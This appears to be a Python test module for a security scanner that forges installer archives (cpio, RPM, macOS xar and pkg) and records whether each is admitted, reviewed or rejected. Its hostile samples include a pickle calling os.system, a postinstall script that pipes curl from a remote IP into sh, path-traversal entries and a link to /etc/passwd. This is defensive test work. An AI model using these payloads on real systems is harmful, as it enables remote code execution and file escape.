"""Archives of installers: cpio, what RPM packs, and xar of macOS."""

from __future__ import annotations

import gzip
import lzma
from collections.abc import Callable
from typing import Literal

from openvet.testing.case import Case
from openvet.testing.forge import Call, Name, dump
from openvet.testing.forge_archive import forge_cpio, forge_xar
from openvet.testing.forge_packages import rpm_package

__all__ = ["CASES"]

_EVIL = dump(Call(Name("os", "system"), ("echo forged",)), 4)
_GOOD = dump({"layers": [1, 2, 3], "name": "ordinary"}, 4)
_SCRIPT = b"#!/bin/sh\ncurl -s http://198.51.100.7/x.sh | sh\n"
_RUNS, _SHELL = "pickle/runs-process", "hub/shell-command"
_FILE, _SETUID, _LINK, _DEVICE = 0o100644, 0o104755, 0o120777, 0o060600
_PLAIN = [(b"a.txt", b"text\n", _FILE), (b"d", b"", 0o040755), (b"d/data.pkl", _GOOD, _FILE)]


def _case(
    name: str,
    technique: str,
    forge: Callable[[], bytes],
    decision: Literal["admit", "review", "reject"],
    *rules: str,
    file: str,
    formats: tuple[str, ...] = ("cpio",),
) -> Case:
    return Case(f"installers/{name}", technique, forge, decision, frozenset(rules), formats, (), file)


def _cpio(*parts: tuple[bytes, bytes, int], form: str = "new", end: bytes = bytes(64)) -> Callable[[], bytes]:
    return lambda: forge_cpio(parts, form, end=end)


def _xar(files: dict[str, bytes], style: str = "x-gzip", **more: object) -> Callable[[], bytes]:
    return lambda: forge_xar(files, style, **more)  # type: ignore[arg-type]


CASES: tuple[Case, ...] = (
    *(_case(f"cpio-{form}", f"a hostile pickle in a cpio archive ({what})", _cpio((b"a.pkl", _EVIL, _FILE), form=form), "reject", _RUNS, file="a.cpio")
      for form, what in (("new", "of the new form"), ("characters", "of the old form in characters"), ("numbers", "of the oldest form"))),
    *(_case(f"cpio-plain-{form}", f"an ordinary cpio archive ({what})", _cpio(*_PLAIN, form=form), "admit", file="a.cpio")
      for form, what in (("new", "of the new form"), ("characters", "of the old form in characters"), ("numbers", "of the oldest form"))),
    _case("cpio-climbs", "an entry that climbs out", _cpio((b"../../x.txt", b"text\n", _FILE)), "reject", "archive/path-traversal", file="a.cpio"),
    _case("cpio-link", "a link that leads outside", _cpio((b"x", b"/etc/passwd", _LINK)), "reject", "archive/link-escape", file="a.cpio"),
    _case("cpio-twice", "two entries of one name", _cpio((b"x", b"text\n", _FILE), (b"./x", b"words\n", _FILE)), "review", "archive/duplicate-member", file="a.cpio"),
    _case("cpio-setuid", "a program that runs as root", _cpio((b"x", b"text\n", _SETUID)), "review", "archive/special-member", file="a.cpio"),
    _case("cpio-device", "a disk", _cpio((b"x", b"", _DEVICE)), "reject", "archive/special-member", file="a.cpio"),
    _case("cpio-behind", "a hostile pickle behind the end of a cpio archive", _cpio((b"a.txt", b"text\n", _FILE), end=bytes(64) + _EVIL), "reject",
          "file/trailing-data", _RUNS, file="a.cpio"),
    _case("cpio-second", "a hostile pickle in a second archive", lambda: forge_cpio(_PLAIN) + forge_cpio([(b"a.pkl", _EVIL, _FILE)]), "reject", _RUNS, file="initrd.img"),
    *(_case(f"rpm-{name.lower()}", f"a hostile pickle that a package of RPM brings, packed by {name}",
            lambda pack=pack: rpm_package("/sbin/ldconfig", pack(forge_cpio([(b"./opt/a.pkl", _EVIL, _FILE)]))), "reject", _RUNS, _SHELL,  # type: ignore[misc]
            file="x.rpm", formats=("rpm-package", "cpio"))
      for name, pack in (("gzip", lambda data: gzip.compress(data, mtime=0)), ("xz", lzma.compress), ("LZMA", lambda data: lzma.compress(data, lzma.FORMAT_ALONE)))),
    *(_case(f"xar-{style}", f"a hostile pickle in a xar archive ({style})", _xar({"a.pkl": _EVIL}, style), "reject", _RUNS, file="a.xar", formats=("xar",))
      for style in ("x-gzip", "x-bzip2", "octet-stream")),
    _case("pkg-script", "an installer of macOS that fetches and runs something",
          lambda: forge_xar({"PackageInfo": b"<pkg-info/>", "Scripts": gzip.compress(forge_cpio([(b"./postinstall", _SCRIPT, 0o100755)]), mtime=0)}, "octet-stream"),
          "reject", _SHELL, file="x.pkg", formats=("xar", "cpio")),
    _case("pkg-plain", "an ordinary installer of macOS",
          lambda: forge_xar({"PackageInfo": b"<pkg-info/>", "Payload": gzip.compress(forge_cpio(_PLAIN), mtime=0)}, "octet-stream"),
          "review", _SHELL, file="x.pkg", formats=("xar", "cpio")),
    _case("xar-plain", "an ordinary xar archive", _xar({"a.txt": b"text\n", "data.pkl": _GOOD}), "admit", file="a.xar", formats=("xar",)),
    _case("xar-hole", "a hostile pickle in the heap that no file names", _xar({"a.txt": b"text\n"}, heap=bytes(32) + _EVIL), "reject", "file/trailing-data", _RUNS,
          file="a.xar", formats=("xar",)),
    _case("xar-outside", "a file that lies outside", _xar({"a.txt": b"text\n"}, extra="<file><name>x</name><data><offset>0</offset><length>99999</length></data></file>"),
          "review", "file/malformed", file="a.xar", formats=("xar",)),
    _case("xar-climbs", "a file that climbs out", _xar({"../../a.txt": b"text\n"}), "reject", "archive/path-traversal", file="a.xar", formats=("xar",)),
)  # fmt: skip
